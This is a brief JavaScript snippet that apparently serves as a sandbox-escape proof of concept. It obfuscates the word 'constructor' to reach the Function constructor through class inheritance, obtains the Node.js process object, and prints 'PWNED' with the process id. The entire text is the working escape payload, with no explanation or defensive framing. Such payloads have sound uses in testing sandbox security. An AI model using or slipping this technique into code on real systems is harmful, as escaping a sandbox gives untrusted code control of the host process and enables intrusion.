const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
new C().go({});
const fn = (x) => x;
function D() {}
require('util').inherits(D, C);
console.log('PWNED', new D().go(fn)('return process')().pid);
